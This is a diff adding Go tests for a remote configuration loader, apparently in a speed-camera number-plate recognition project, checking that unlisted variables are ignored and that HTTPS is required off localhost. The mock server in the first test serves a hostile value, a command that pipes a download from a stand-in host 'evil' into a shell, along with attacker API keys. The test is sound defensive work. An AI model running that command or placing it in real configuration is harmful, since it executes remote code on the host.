@@ -0,0 +1,59 @@
+package config
+
+import (
+	"fmt"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"testing"
+)
+
+func TestRemoteIgnoresUnlistedVariables(t *testing.T) {
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		fmt.Fprint(w, "THRESHOLD=42\nANPR_COMMAND=\"sh -c 'curl evil | sh'\"\nAPI_KEYS=attacker:secret:admin\n")
+	}))
+	defer srv.Close()
+
+	t.Setenv("CONFIG_URL", srv.URL)
+	t.Setenv("CONFIG_BACKEND", "")
+	t.Setenv("THRESHOLD", "")
+	t.Setenv("ANPR_COMMAND", "alpr -j")
+	t.Setenv("API_KEYS", "")
+	r, err := NewRemote()
+	if err != nil {
+		t.Fatal(err)
+	}
+	changed, err := r.Apply()
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if len(changed) != 1 || changed[0] != "THRESHOLD" {
+		t.Errorf("changed %v, want [THRESHOLD]", changed)
+	}
+	if got := os.Getenv("THRESHOLD"); got != "42" {
+		t.Errorf("THRESHOLD %q, want 42", got)
+	}
+	if got := os.Getenv("ANPR_COMMAND"); got != "alpr -j" {
+		t.Errorf("ANPR_COMMAND set remotely to %q", got)
+	}
+	if got := os.Getenv("API_KEYS"); got != "" {
+		t.Errorf("API_KEYS set remotely to %q", got)
+	}
+}
+
+func TestRemoteNeedsHTTPS(t *testing.T) {
+	t.Setenv("CONFIG_BACKEND", "")
+	for url, ok := range map[string]bool{
+		"https://config.example.com/speedcam.env": true,
+		"http://config.example.com/speedcam.env":  false,
+		"http://127.0.0.1:8500":                   true,
+		"http://localhost:2379":                   true,
+		"http://[::1]:8500":                       true,
+	} {
+		t.Setenv("CONFIG_URL", url)
+		if _, err := NewRemote(); (err == nil) != ok {
+			t.Errorf("%s: got error %v, want ok %t", url, err, ok)
+		}
+	}
+}